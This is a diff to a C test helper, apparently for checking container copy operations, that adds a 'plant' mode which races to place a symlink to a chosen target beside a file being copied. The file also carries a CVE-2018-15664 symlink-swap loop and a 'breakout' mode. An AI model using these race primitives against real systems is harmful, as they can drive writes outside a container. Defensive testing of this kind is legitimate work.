@@ -9,6 +9,8 @@
  *                                                    seen, until /tmp/stop exists
  *   probe swap A B                                   CVE-2018-15664: exchange A and B in a loop,
  *                                                    until /tmp/stop exists
+ *   probe plant DIR TARGET A B                       once DIR/A (or B) appears, a symlink to
+ *                                                    TARGET at DIR/B (or A), until /tmp/stop exists
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -342,16 +344,39 @@ static void swap(const char *a, const char *b) {
   printf("swaps %ld\n", swaps);
 }
 
+/*
+ * Waits for a copy into DIR to begin (A or B appears) and at once plants a symlink to TARGET at
+ * the other name, in a loop until /tmp/stop exists: the copy must not write through it.
+ */
+static void plant(const char *dir, const char *target, const char *a, const char *b) {
+  char pa[256], pb[256];
+  snprintf(pa, sizeof pa, "%s/%s", dir, a);
+  snprintf(pb, sizeof pb, "%s/%s", dir, b);
+  struct stat st;
+  long planted = 0;
+  while (stat("/tmp/stop", &st) < 0) {
+    if (lstat(pa, &st) == 0 && symlink(target, pb) == 0) {
+      planted++;
+    }
+    if (lstat(pb, &st) == 0 && symlink(target, pa) == 0) {
+      planted++;
+    }
+  }
+  printf("planted %ld\n", planted);
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc == 6 && strcmp(argv[1], "breakout") == 0) {
     breakout(atoi(argv[2]), argv[3], (unsigned) atoi(argv[4]), (unsigned) atoi(argv[5]));
   } else if (argc == 4 && strcmp(argv[1], "swap") == 0) {
     swap(argv[2], argv[3]);
+  } else if (argc == 6 && strcmp(argv[1], "plant") == 0) {
+    plant(argv[2], argv[3], argv[4], argv[5]);
   } else if (argc == 2 && strcmp(argv[1], "exes") == 0) {
     exes();
   } else {
-    fprintf(stderr, "usage: probe breakout HOSTPID MARKER MAJOR MINOR | probe exes | probe swap A B\n");
+    fprintf(stderr, "usage: probe breakout HOSTPID MARKER MAJOR MINOR | probe exes | probe swap A B | probe plant DIR TARGET A B\n");
     return 2;
   }
   return 0;
